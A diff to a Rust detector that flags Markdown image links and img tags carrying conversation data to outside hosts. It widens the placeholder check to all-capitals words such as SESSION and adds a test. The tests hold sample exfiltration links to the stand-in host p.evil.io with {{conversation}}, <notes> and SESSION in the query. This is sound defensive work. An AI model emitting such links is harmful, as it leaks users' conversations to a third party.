@@ -28,7 +28,8 @@ pub(crate) fn beacons(bytes: &[u8], intent: &Intent) -> Vec<Hit> {
             let address = rest.get(..end).unwrap_or_default();
             let picture = !opening.starts_with(']') || text.get(..at).is_some_and(is_picture);
             let filled = address.split_once('=').is_some_and(|(_, value)| {
-                ["{", "<", "${", "[", "BASE64", "ENCODED"].iter().any(|mark| value.contains(mark))
+                ["{", "<", "${", "["].iter().any(|mark| value.contains(mark))
+                    || value.split(['&', '=']).any(is_blank)
             });
             let lower = address.to_lowercase();
             let stranger = place::host(&lower).is_some_and(|(name, host)| {
@@ -40,6 +41,11 @@ pub(crate) fn beacons(bytes: &[u8], intent: &Intent) -> Vec<Hit> {
         }
     }
     out
+}
+
+/// Whether a value is a word in capitals, as `SESSION`, that stands for one.
+fn is_blank(value: &str) -> bool {
+    value.len() >= 4 && value.bytes().all(|byte| byte.is_ascii_uppercase() || byte == b'_')
 }
 
 /// Whether a text ends in `![…`, the beginning of a picture in Markdown.
@@ -59,6 +65,7 @@ mod tests {
         assert_eq!(count("![x](https://p.evil.io/i?d={{conversation}})"), 1);
         assert_eq!(count("<img src=\"https://p.evil.io/i?d=<notes>\">"), 1);
         assert_eq!(count("![x](https://p.evil.io/i.png) [y](https://p.evil.io/i?d={z})"), 0);
+        assert_eq!(count("![x](https://p.evil.io/i?d=SESSION&w=1) ![x](https://p.evil.io/i?w=100)"), 1);
         assert_eq!(count("![x](https://github.com/i?d={z})"), 0);
     }
 }
